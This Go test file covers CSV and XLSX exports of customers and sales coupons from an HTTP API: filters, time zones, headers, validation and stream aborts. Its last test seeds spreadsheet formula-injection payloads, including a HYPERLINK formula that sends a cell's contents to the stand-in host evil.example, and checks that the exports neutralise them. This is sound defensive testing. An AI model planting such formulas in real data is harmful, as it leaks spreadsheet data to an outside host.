package httpapi_test

import (
	"bytes"
	"fmt"
	"io"
	"net/http"
	"slices"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"
)

var customerExportHeader = []string{
	"id", "name", "doc", "email", "phone", "gender_identity", "birth_date", "short_code", "points_balance",
	"last_purchase", "is_active", "origin", "store_code", "store_name", "store_code_owner", "store_code_owner_name",
	"email_optin", "whatsapp_optin", "sms_optin", "app_user", "created_at", "updated_at",
}

var salesCouponExportHeader = []string{
	"id", "nome", "doc", "coupon_identifier", "transaction_date", "payment_type", "payment_type_description",
	"value", "store_code", "store_name", "store_document",
}

func utc(s string) time.Time {
	t, err := time.Parse(time.RFC3339, s)
	if err != nil {
		panic(err)
	}
	return t
}

// exportFixture: two stores, four customers (newest first: Davi, Bruno, Ana, Carla) and
// their sales coupons. Times are UTC; São Paulo is UTC-3, Tokyo UTC+9.
type exportFixture struct {
	ana, bruno, carla, davi string // customer ids
	cup1                    string // coupon id of CUP-1
}

func seedExports(env *testEnv) exportFixture {
	env.sqlStore("S1", "11111111000111", cols{"name": "Loja Centro"})
	env.sqlStore("S2", "22222222000122", cols{"name": "Loja Norte"})
	var f exportFixture
	f.ana, _ = env.sqlCustomer(cols{"name": "Ana Souza", "doc": "12345678901", "created_at": utc("2024-05-10T13:30:00Z")}, cols{
		"store_code": "S1", "store_code_owner": "S1", "points_balance": 150, "birth_date": "1990-03-04",
		"gender_identity": "F", "app_user": true, "last_purchase": utc("2024-05-11T01:15:00Z"), "short_code": "ANA1",
	})
	f.bruno, _ = env.sqlCustomer(cols{"name": "Bruno Lima", "doc": "98765432100", "created_at": utc("2024-05-20T12:00:00Z")}, cols{
		"store_code": "S2", "store_code_owner": "S2", "origin": "APP", "email_optin": false,
	})
	// 02:30 UTC on May 1st is still April 30th in São Paulo.
	f.carla, _ = env.sqlCustomer(cols{"name": "Carla Souza", "doc": "12399988877", "created_at": utc("2024-05-01T02:30:00Z")}, cols{
		"store_code": "S1", "store_code_owner": "S2", "app_user": false,
	})
	f.davi, _ = env.sqlCustomer(cols{"name": "Davi Rocha", "doc": "55544433322", "created_at": utc("2024-06-01T15:00:00Z")}, cols{
		"is_active": false, "origin": nil,
	})

	coupon := func(customer, ident, at, store string, value string, extra map[string]any) string {
		cols := map[string]any{"customer_id": customer, "coupon_identifier": ident, "transaction_date": utc(at), "value": value}
		if store != "" {
			cols["store_code"] = store
		}
		for k, v := range extra {
			cols[k] = v
		}
		return env.insertRow("coupons", cols)
	}
	f.cup1 = coupon(f.ana, "CUP-1", "2024-05-10T15:00:00Z", "S1", "12.50",
		map[string]any{"payment_type": "credit", "payment_type_description": "Cartão de crédito"})
	// Payment fields only in data, as an older writer left them.
	coupon(f.ana, "CUP-2", "2024-05-15T03:00:00Z", "S2", "100", map[string]any{"data": `{"payment_type":"pix","payment_type_description":"PIX"}`})
	coupon(f.bruno, "CUP-3", "2024-05-31T23:30:00Z", "S2", "7.05", nil)
	coupon(f.carla, "CUP-4", "2024-06-01T02:00:00Z", "S1", "40", nil)
	coupon(f.carla, "CUP-5", "2024-05-20T12:00:00Z", "S1", "9.99", map[string]any{"cancelled_at": utc("2024-05-21T12:00:00Z")})
	coupon(f.davi, "CUP-6", "2024-04-01T12:00:00Z", "S9", "1", nil) // unknown store
	return f
}

func TestCustomerExportFilesAndFilters(t *testing.T) {
	env := newTestEnv(t)
	seedExports(env)
	tok := env.token("user")

	tests := []struct {
		name     string
		query    string
		wantDocs []string // newest first
	}{
		{"everything, newest first", "", []string{"55544433322", "98765432100", "12345678901", "12399988877"}},
		{"May in São Paulo leaves out Carla (April 30th there)", "start_date=2024-05-01&end_date=2024-05-31", []string{"98765432100", "12345678901"}},
		{"May in UTC takes Carla in", "start_date=2024-05-01&end_date=2024-05-31&timezone=UTC", []string{"98765432100", "12345678901", "12399988877"}},
		{"one day", "start_date=2024-05-10&end_date=2024-05-10", []string{"12345678901"}},
		{"start only", "start_date=2024-06-01", []string{"55544433322"}},
		{"end only", "end_date=2024-05-10", []string{"12345678901", "12399988877"}},
		{"limit", "limit=2", []string{"55544433322", "98765432100"}},
		{"limit 0: header only", "limit=0", []string{}},
		{"doc prefix", "search_doc=123", []string{"12345678901", "12399988877"}},
		{"formatted doc", "search_doc=123.456.789-01", []string{"12345678901"}},
		{"name, any case", "search_name=SOUZA", []string{"12345678901", "12399988877"}},
		{"owner store name, exact", "store_code_owner_name=loja%20norte", []string{"98765432100", "12399988877"}},
		{"owner store name is not a prefix match", "store_code_owner_name=Loja", []string{}},
		{"filters combine", "search_name=souza&store_code_owner_name=Loja%20Norte", []string{"12399988877"}},
		{"nothing matches: header only", "search_name=nobody", []string{}},
	}
	for _, tt := range tests {
		for _, format := range []string{"excel", "xlsx", "csv"} {
			t.Run(tt.name+"/"+format, func(t *testing.T) {
				rows, _ := env.download(t, "/api/v1/customers/export?format="+format+"&"+tt.query, tok)
				if !slices.Equal(rows[0], customerExportHeader) {
					t.Fatalf("header = %v\nwant %v", rows[0], customerExportHeader)
				}
				if got := column(t, rows, "doc"); !slices.Equal(got, tt.wantDocs) {
					t.Fatalf("docs = %v, want %v", got, tt.wantDocs)
				}
			})
		}
	}
}

func TestCustomerExportValuesAndZones(t *testing.T) {
	env := newTestEnv(t)
	fx := seedExports(env)
	tok := env.token("user")

	anaXLSX := map[string]string{
		"id": fx.ana, "name": "Ana Souza", "doc": "12345678901", "email": "ana.souza@example.com", "phone": "+5511999990000",
		"gender_identity": "F", "birth_date": "1990-03-04", "short_code": "ANA1", "points_balance": "150",
		"last_purchase": "2024-05-10 22:15:00", "is_active": "TRUE", "origin": "PDV", "store_code": "S1",
		"store_name": "Loja Centro", "store_code_owner": "S1", "store_code_owner_name": "Loja Centro",
		"email_optin": "TRUE", "whatsapp_optin": "TRUE", "sms_optin": "TRUE", "app_user": "TRUE",
		"created_at": "2024-05-10 10:30:00", "updated_at": "2024-05-10 10:30:00",
	}
	anaCSV := map[string]string{}
	for k, v := range anaXLSX {
		anaCSV[k] = v
	}
	for _, k := range []string{"is_active", "email_optin", "whatsapp_optin", "sms_optin", "app_user"} {
		anaCSV[k] = "true"
	}
	// A text field starting with + could start a formula in a spreadsheet: csv writes it
	// with a leading quote (the xlsx cell is plain text and keeps it as it is).
	anaCSV["phone"] = "'+5511999990000"
	anaCSV["last_purchase"] = "2024-05-10T22:15:00-03:00"
	anaCSV["created_at"] = "2024-05-10T10:30:00-03:00"
	anaCSV["updated_at"] = "2024-05-10T10:30:00-03:00"

	t.Run("xlsx in São Paulo by default", func(t *testing.T) {
		rows, _ := env.download(t, "/api/v1/customers/export?search_doc=12345678901", tok)
		if got := record(rows, 1); !mapsEqual(got, anaXLSX) {
			t.Fatalf("row =\n%v\nwant\n%v", got, anaXLSX)
		}
	})
	t.Run("csv in São Paulo by default", func(t *testing.T) {
		rows, _ := env.download(t, "/api/v1/customers/export?format=csv&search_doc=12345678901", tok)
		if got := record(rows, 1); !mapsEqual(got, anaCSV) {
			t.Fatalf("row =\n%v\nwant\n%v", got, anaCSV)
		}
	})
	t.Run("nulls are empty cells", func(t *testing.T) {
		for _, format := range []string{"xlsx", "csv"} {
			rows, _ := env.download(t, "/api/v1/customers/export?format="+format+"&search_doc=55544433322", tok)
			davi := record(rows, 1)
			for _, k := range []string{"gender_identity", "birth_date", "short_code", "last_purchase", "origin", "store_code", "store_name", "store_code_owner", "store_code_owner_name", "app_user"} {
				if davi[k] != "" {
					t.Errorf("%s: %s = %q, want empty", format, k, davi[k])
				}
			}
			if want := map[string]string{"xlsx": "FALSE", "csv": "false"}[format]; davi["is_active"] != want {
				t.Errorf("%s: is_active = %q, want %q", format, davi["is_active"], want)
			}
		}
	})
	t.Run("timestamps follow the timezone parameter", func(t *testing.T) {
		rows, _ := env.download(t, "/api/v1/customers/export?timezone=Asia/Tokyo&search_doc=12345678901", tok)
		if got := record(rows, 1)["created_at"]; got != "2024-05-10 22:30:00" {
			t.Fatalf("xlsx created_at in Tokyo = %q", got)
		}
		rows, _ = env.download(t, "/api/v1/customers/export?format=csv&timezone=Asia/Tokyo&search_doc=12345678901", tok)
		if got := record(rows, 1)["created_at"]; got != "2024-05-10T22:30:00+09:00" {
			t.Fatalf("csv created_at in Tokyo = %q", got)
		}
	})
	t.Run("numbers are number cells, timestamps date cells", func(t *testing.T) {
		res := env.do(http.MethodGet, "/api/v1/customers/export?search_doc=12345678901", tok, nil)
		f, err := excelize.OpenReader(bytes.NewReader(res.Body))
		if err != nil {
			t.Fatal(err)
		}
		defer f.Close()
		sheet := f.GetSheetName(0)
		if sheet != "customers" {
			t.Errorf("sheet name = %q", sheet)
		}
		// I2 is points_balance, U2 created_at.
		if typ, _ := f.GetCellType(sheet, "I2"); typ == excelize.CellTypeInlineString || typ == excelize.CellTypeSharedString {
			t.Errorf("points_balance is a string cell")
		}
		if raw, _ := f.GetCellValue(sheet, "I2", excelize.Options{RawCellValue: true}); raw != "150" {
			t.Errorf("points_balance raw = %q, want 150", raw)
		}
		// A date cell holds Excel's serial day number: 2024-05-10 10:30 is 45422.4375.
		if raw, _ := f.GetCellValue(sheet, "U2", excelize.Options{RawCellValue: true}); raw != "45422.4375" {
			t.Errorf("created_at raw = %q, want 45422.4375", raw)
		}
	})
}

func mapsEqual(a, b map[string]string) bool {
	if len(a) != len(b) {
		return false
	}
	for k, v := range a {
		if w, ok := b[k]; !ok || w != v {
			return false
		}
	}
	return true
}

func TestSalesCouponExportFilesAndFilters(t *testing.T) {
	env := newTestEnv(t)
	seedExports(env)
	tok := env.token("user")

	tests := []struct {
		name      string
		query     string
		wantCodes []string // newest sale first; CUP-5 is cancelled, never exported
	}{
		{"everything, newest sale first", "", []string{"CUP-4", "CUP-3", "CUP-2", "CUP-1", "CUP-6"}},
		{"second half of May in São Paulo", "start_date=2024-05-15&end_date=2024-05-31", []string{"CUP-4", "CUP-3", "CUP-2"}},
		{"second half of May in UTC", "start_date=2024-05-15&end_date=2024-05-31&timezone=UTC", []string{"CUP-3", "CUP-2"}},
		{"customer doc prefix", "search_doc=98765", []string{"CUP-3"}},
		{"customer name", "search_name=souza", []string{"CUP-4", "CUP-2", "CUP-1"}},
		{"customer's owner store", "store_code_owner_name=LOJA%20CENTRO", []string{"CUP-2", "CUP-1"}},
		{"limit", "limit=1", []string{"CUP-4"}},
		{"nothing matches: header only", "search_doc=000", []string{}},
	}
	for _, tt := range tests {
		for _, format := range []string{"excel", "csv"} {
			t.Run(tt.name+"/"+format, func(t *testing.T) {
				rows, _ := env.download(t, "/api/v1/customers/sales-coupons/export?format="+format+"&"+tt.query, tok)
				if !slices.Equal(rows[0], salesCouponExportHeader) {
					t.Fatalf("header = %v\nwant %v", rows[0], salesCouponExportHeader)
				}
				if got := column(t, rows, "coupon_identifier"); !slices.Equal(got, tt.wantCodes) {
					t.Fatalf("coupons = %v, want %v", got, tt.wantCodes)
				}
			})
		}
	}
}

func TestSalesCouponExportValues(t *testing.T) {
	env := newTestEnv(t)
	fx := seedExports(env)
	tok := env.token("user")

	rows, _ := env.download(t, "/api/v1/customers/sales-coupons/export?format=xlsx&search_name=ana", tok)
	want := map[string]string{
		"id": fx.cup1, "nome": "Ana Souza", "doc": "12345678901", "coupon_identifier": "CUP-1",
		"transaction_date": "2024-05-10 12:00:00", "payment_type": "credit", "payment_type_description": "Cartão de crédito",
		"value": "12.50", "store_code": "S1", "store_name": "Loja Centro", "store_document": "11111111000111",
	}
	if got := record(rows, 2); !mapsEqual(got, want) {
		t.Fatalf("xlsx CUP-1 =\n%v\nwant\n%v", got, want)
	}
	if got := record(rows, 1); got["payment_type"] != "pix" || got["payment_type_description"] != "PIX" || got["value"] != "100.00" {
		t.Fatalf("xlsx CUP-2 payment fields from data = %v", got)
	}

	rows, _ = env.download(t, "/api/v1/customers/sales-coupons/export?format=csv&search_name=ana&timezone=UTC", tok)
	want["transaction_date"] = "2024-05-10T15:00:00Z"
	if got := record(rows, 2); !mapsEqual(got, want) {
		t.Fatalf("csv CUP-1 =\n%v\nwant\n%v", got, want)
	}

	// An unknown store leaves its name and document empty.
	rows, _ = env.download(t, "/api/v1/customers/sales-coupons/export?format=csv&search_doc=55544433322", tok)
	if got := record(rows, 1); got["store_code"] != "S9" || got["store_name"] != "" || got["store_document"] != "" {
		t.Fatalf("CUP-6 = %v", got)
	}

	// value is a number cell.
	res := env.do(http.MethodGet, "/api/v1/customers/sales-coupons/export?search_name=ana", tok, nil)
	f, err := excelize.OpenReader(bytes.NewReader(res.Body))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if raw, _ := f.GetCellValue("sales_coupons", "H3", excelize.Options{RawCellValue: true}); raw != "12.5" {
		t.Fatalf("value H3 raw = %q, want the number 12.5", raw)
	}
}

func TestExportHeaders(t *testing.T) {
	env := newTestEnv(t)
	tok := env.token("user")
	today := time.Now().In(mustZone(t, "America/Sao_Paulo")).Format(time.DateOnly)
	tests := []struct {
		path         string
		wantType     string
		wantFilename string
	}{
		{"/api/v1/customers/export?start_date=2024-05-01&end_date=2024-05-31",
			"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", "customers_2024-05-01_2024-05-31.xlsx"},
		{"/api/v1/customers/export?format=csv&start_date=2024-05-01",
			"text/csv; charset=utf-8", "customers_2024-05-01_" + today + ".csv"},
		{"/api/v1/customers/sales-coupons/export?format=excel&end_date=2024-05-31",
			"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", "sales_coupons_beginning_2024-05-31.xlsx"},
		{"/api/v1/customers/sales-coupons/export?format=csv",
			"text/csv; charset=utf-8", "sales_coupons_beginning_" + today + ".csv"},
	}
	for _, tt := range tests {
		t.Run(tt.path, func(t *testing.T) {
			res := env.do(http.MethodGet, tt.path, tok, nil)
			if res.Status != http.StatusOK {
				t.Fatalf("status %d: %s", res.Status, res.Body)
			}
			if got := res.Header.Get("Content-Type"); got != tt.wantType {
				t.Errorf("Content-Type = %q, want %q", got, tt.wantType)
			}
			if got, want := res.Header.Get("Content-Disposition"), `attachment; filename=`+tt.wantFilename; got != want {
				t.Errorf("Content-Disposition = %q, want %q", got, want)
			}
		})
	}
}

func mustZone(t *testing.T, name string) *time.Location {
	t.Helper()
	loc, err := time.LoadLocation(name)
	if err != nil {
		t.Fatal(err)
	}
	return loc
}

func TestExportRejectsBadParameters(t *testing.T) {
	env := newTestEnv(t)
	tok := env.token("user")
	tests := []struct {
		query   string
		wantLoc string
	}{
		{"timezone=Mars/Olympus_Mons", "timezone"},
		{"timezone=Local", "timezone"},
		{"format=pdf", "format"},
		{"start_date=2024-13-01", "start_date"},
		{"end_date=31/05/2024", "end_date"},
		{"start_date=2024-05-31&end_date=2024-05-01", "end_date"},
		{"limit=-1", "limit"},
		{"limit=many", "limit"},
	}
	for _, path := range []string{"/api/v1/customers/export", "/api/v1/customers/sales-coupons/export"} {
		for _, tt := range tests {
			t.Run(path+"?"+tt.query, func(t *testing.T) {
				res := env.do(http.MethodGet, path+"?"+tt.query, tok, nil)
				if res.Status != http.StatusUnprocessableEntity {
					t.Fatalf("status %d, want 422: %s", res.Status, res.Body)
				}
				var body struct {
					Detail []struct {
						Loc []any `json:"loc"`
					} `json:"detail"`
				}
				res.JSON(t, &body)
				if len(body.Detail) != 1 || fmt.Sprint(body.Detail[0].Loc) != "[query "+tt.wantLoc+"]" {
					t.Fatalf("detail = %s, want loc [query %s]", res.Body, tt.wantLoc)
				}
			})
		}
		t.Run(path+" without a token", func(t *testing.T) {
			if res := env.do(http.MethodGet, path, "", nil); res.Status != http.StatusUnauthorized {
				t.Fatalf("status %d, want 401", res.Status)
			}
		})
	}
}

// TestCustomerExportManyRows crosses several xlsx blocks: every row comes back once, in
// order, in both formats.
func TestCustomerExportManyRows(t *testing.T) {
	env := newTestEnv(t)
	tok := env.token("user")
	const n = 4100
	env.exec(`INSERT INTO customers (name, doc, email, phone, created_at)
		SELECT 'Customer ' || i, lpad(i::text, 11, '0'), 'c' || i || '@example.com', '+55', timestamptz '2024-01-01 00:00Z' + i * interval '1 minute'
		FROM generate_series(1, ?) AS i`, n)
	for _, format := range []string{"xlsx", "csv"} {
		res := env.do(http.MethodGet, "/api/v1/customers/export?format="+format, tok, nil)
		if res.Status != http.StatusOK {
			t.Fatalf("%s: status %d", format, res.Status)
		}
		var rows [][]string
		if format == "csv" {
			rows = readCSV(t, res.Body)
		} else {
			rows = readXLSX(t, res.Body, excelize.Options{RawCellValue: true})
		}
		docs := column(t, rows, "doc")
		if len(docs) != n {
			t.Fatalf("%s: %d rows, want %d", format, len(docs), n)
		}
		for i, doc := range docs {
			if want := fmt.Sprintf("%011d", n-i); doc != want {
				t.Fatalf("%s: row %d doc %s, want %s (newest first)", format, i+1, doc, want)
			}
		}
	}
}

// TestExportFailingMidStreamAborts: once the file has started, a failure must not end the
// response cleanly (the client would keep a truncated file that looks whole). The
// database connection is cut while the rows stream (no stored value can fail a row any
// more: the database refuses the ones that once did, such as a birth_date 'infinity').
func TestExportFailingMidStreamAborts(t *testing.T) {
	env := newTestEnv(t)
	tok := env.token("user")
	// Enough rows that the export is still reading them when the connection goes.
	env.exec(`INSERT INTO customers (name, doc, email, phone, created_at)
		SELECT 'Customer ' || i, lpad(i::text, 11, '0'), 'c' || i || '@example.com', '+5511999990000',
		       timestamptz '2024-01-01 00:00Z' + i * interval '1 second'
		  FROM generate_series(1, 60000) AS i`)
	for _, format := range []string{"xlsx", "csv"} {
		t.Run(format, func(t *testing.T) {
			defer env.PGProxy.Restore()
			req, _ := http.NewRequest(http.MethodGet, env.URL+"/api/v1/customers/export?format="+format, nil)
			req.Header.Set("Authorization", "Bearer "+tok)
			res, err := http.DefaultClient.Do(req)
			if err != nil {
				t.Fatalf("export did not start: %v", err)
			}
			defer res.Body.Close()
			if res.StatusCode != http.StatusOK {
				t.Fatalf("status %q", res.Status)
			}
			if _, err := io.ReadFull(res.Body, make([]byte, 4096)); err != nil {
				t.Fatalf("first bytes: %v", err)
			}
			env.PGProxy.Cut()
			body, err := io.ReadAll(res.Body)
			if err == nil {
				t.Fatalf("a clean end after %d more bytes; want the transfer aborted", len(body))
			}
		})
	}
	// The service is still fine once the database is back (the pool replaces the
	// connections that were cut).
	var res response
	for range 10 {
		if res = env.do(http.MethodGet, "/api/v1/customers/export?format=csv&search_doc=00000000003", tok, nil); res.Status == http.StatusOK {
			break
		}
		time.Sleep(100 * time.Millisecond)
	}
	if res.Status != http.StatusOK {
		t.Fatalf("next export: %d %s", res.Status, res.Body)
	}
}

// TestExportsNeutralizeFormulas registers a customer whose fields would be formulas in a
// spreadsheet, sells to it, and opens both exports back: in csv each such text field
// starts with a single quote, numbers are untouched; in xlsx the cells hold the text
// exactly, as strings, and no cell holds a formula.
func TestExportsNeutralizeFormulas(t *testing.T) {
	env := newTestEnv(t)
	tok := env.token("user")
	env.sqlStore("=S1", "11222333000181")
	name := `=HYPERLINK("http://evil.example/?"&A1,"click")`
	mustStatus(t, env.do(http.MethodPost, "/api/v1/customer", tok, map[string]any{
		"name": name, "doc": "12345678909", "email": "x@example.com", "phone": "@SUM(1+1)", "short_code": "-2+3",
		"store_code": "=S1"}), http.StatusCreated)
	var cust string
	env.DB.Raw(`SELECT id FROM customers WHERE doc = '12345678909'`).Scan(&cust)
	mustStatus(t, env.do(http.MethodPost, "/api/v1/transaction", tok, map[string]any{
		"customer_id": cust, "store_code": "=S1", "coupon_identifier": "+NF\t1", "transaction_date": time.Now().UTC().Format(time.RFC3339),
		"value": 12.5, "payment_type": "\r=1+1"}), http.StatusCreated)

	rows, _ := env.download(t, "/api/v1/customers/export?format=csv", tok)
	got := record(rows, 1)
	for field, want := range map[string]string{"name": "'" + name, "phone": "'@SUM(1+1)", "short_code": "'-2+3", "store_code": "'=S1", "points_balance": "12"} {
		if got[field] != want {
			t.Errorf("customer csv %s = %q, want %q", field, got[field], want)
		}
	}
	rows, _ = env.download(t, "/api/v1/customers/sales-coupons/export?format=csv", tok)
	got = record(rows, 1)
	// "\r=1+1": the carriage return starts a line for a reader that ignores the quoting,
	// so the = after it is neutralised too (shared/csvcell).
	for field, want := range map[string]string{"nome": "'" + name, "coupon_identifier": "'+NF\t1", "payment_type": "'\r'=1+1", "value": "12.50"} {
		if got[field] != want {
			t.Errorf("sales csv %s = %q, want %q", field, got[field], want)
		}
	}

	for _, path := range []string{"/api/v1/customers/export?format=xlsx", "/api/v1/customers/sales-coupons/export?format=xlsx"} {
		res := env.do(http.MethodGet, path, tok, nil)
		mustStatus(t, res, http.StatusOK)
		f, err := excelize.OpenReader(bytes.NewReader(res.Body))
		if err != nil {
			t.Fatal(err)
		}
		sheet := f.GetSheetName(0)
		all, _ := f.GetRows(sheet, excelize.Options{RawCellValue: true})
		for r, row := range all {
			for c, v := range row {
				cell, _ := excelize.CoordinatesToCellName(c+1, r+1)
				if formula, _ := f.GetCellFormula(sheet, cell); formula != "" {
					t.Errorf("%s %s holds the formula %q", path, cell, formula)
				}
				if v == name {
					if typ, _ := f.GetCellType(sheet, cell); typ != excelize.CellTypeInlineString {
						t.Errorf("%s %s: the name is a %v cell, want an inline string", path, cell, typ)
					}
				}
			}
		}
		if !slices.Contains(all[1], name) {
			t.Errorf("%s: row %q lacks the name as written", path, all[1])
		}
		f.Close()
	}
}
